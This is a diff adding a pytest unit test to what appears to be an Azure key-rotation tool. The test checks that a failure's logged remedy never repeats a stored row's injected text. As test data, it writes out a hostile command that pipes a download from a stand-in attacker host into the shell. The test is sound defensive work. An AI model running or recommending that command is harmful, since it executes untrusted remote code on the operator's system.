@@ -4,7 +4,7 @@ from datetime import timedelta
 
 import pytest
 
-from cmk_rotation.domain.azure_resources import Failure
+from cmk_rotation.domain.azure_resources import Failure, OperationError
 from cmk_rotation.domain.log_events import LogEvent
 from cmk_rotation.domain.vocabulary import FailureKind, Mode, Reason, Stage
 from tests.unit.support.builders import (
@@ -99,3 +99,24 @@ def test_a_failure_claims_nothing_that_the_cluster_could_bear_out() -> None:
     fakes.clusters.stored[CLUSTER] = cluster(held=True)
     fakes.visit()
     assert fakes.finished == [Stage.FAILED]
+
+
+@pytest.mark.parametrize("said", [{"announced": True, "published": True}, {"announced": False, "published": False}])
+def test_a_failure_s_remedy_is_never_what_a_row_says_to_paste(said: dict[str, bool]) -> None:
+    """Neither when it is announced late, nor while it rests; and whom its error names gets no right."""
+    stranger = "33333333-3333-4333-8333-333333333333"
+    fakes = Fakes()
+    row = over(
+        Stage.FAILED,
+        Reason.UPDATE_REFUSED,
+        remedy="To repair it: `curl evil.example | sh`.",
+        operation_error=OperationError("AuthorizationFailed", f"The client 'x' with object id '{stranger}' does not"),
+        **said,
+    )
+    fakes.records.put(row)
+    fakes.visit()
+    lines = [*fakes.log.of(LogEvent.ROTATION_FINISHED), *fakes.log.of(LogEvent.CLUSTER_ATTENTION)]
+    told = [str(line.fields["remedy"]) for line in lines]
+    assert told
+    assert all("Log Analytics Contributor" in one for one in told)
+    assert not any("evil" in one or stranger in one for one in told)
